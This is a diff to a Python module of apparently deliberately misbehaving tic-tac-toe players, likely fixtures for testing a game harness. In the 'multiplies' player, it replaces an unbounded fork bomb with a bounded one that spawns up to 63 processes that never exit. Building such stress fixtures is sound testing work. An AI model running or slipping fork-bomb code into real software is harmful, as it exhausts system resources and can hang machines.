@@ -4,6 +4,7 @@ import os
 import shutil
 import signal
 import socket
+from contextlib import suppress
 from pathlib import Path
 
 HERE = Path(__file__).parent
@@ -37,12 +38,13 @@ def connects(board):
 
 
 def multiplies(board):
-    """Start processes without end."""
-    while board.count(" ") == 9:
-        try:
-            os.fork()
-        except OSError:
-            pass
+    """Start up to 63 processes, and end none of them. More could stop the computer, because root has no limit."""
+    if board.count(" ") == 9:
+        for _ in range(6):
+            with suppress(OSError):
+                os.fork()
+        while True:
+            signal.pause()
     return first(board)
 
 
